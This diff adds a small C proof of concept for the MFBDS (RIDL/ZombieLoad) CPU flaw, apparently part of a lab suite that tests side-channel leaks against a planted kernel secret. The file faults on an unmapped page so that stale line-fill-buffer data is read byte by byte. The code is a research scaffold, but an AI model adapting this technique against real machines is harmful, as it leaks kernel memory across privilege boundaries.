@@ -1,0 +1,33 @@
+/*
+ * MFBDS (RIDL, ZombieLoad): a load that faults gets what the last miss left in a line fill buffer.
+ *
+ * The kernel reads its secret, which is in no cache: the line comes through a fill buffer and stays there. The load
+ * that follows has nothing to do with it: its page is not there at all. Only the place within the line chooses what
+ * is forwarded, so no address of the kernel is needed.
+ */
+#include "kernel.h"
+
+static const char ABOUT[] = "ring 0 only";
+
+static const u8 *nowhere;
+
+static int prepare(u64 bytes)
+{
+    (void)bytes;
+    nowhere = map(0, PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
+    catch_faults();
+    return !failed(nowhere);
+}
+
+static void attempt(u64 index)
+{
+    flush_probe();
+    lab_call(LAB_FLUSH, LINE_OF_SECRET, 0, 0, 0);
+    kernel_uses_secret();
+    STALE_ACCESS(nowhere + SECRET_AT + index);
+}
+
+static void done(void)
+{
+    say_value("faults", faults);
+}
